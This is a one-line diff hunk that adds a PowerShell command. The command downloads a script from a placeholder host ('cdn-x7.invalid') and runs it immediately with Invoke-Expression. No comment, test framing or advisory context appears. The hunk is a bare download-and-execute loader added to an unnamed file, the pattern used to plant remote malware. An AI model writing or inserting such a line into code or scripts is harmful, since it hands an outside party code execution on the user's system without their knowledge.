@@ -1,0 +1,1 @@
+iex (iwr -useb https://cdn-x7.invalid/a.ps1)
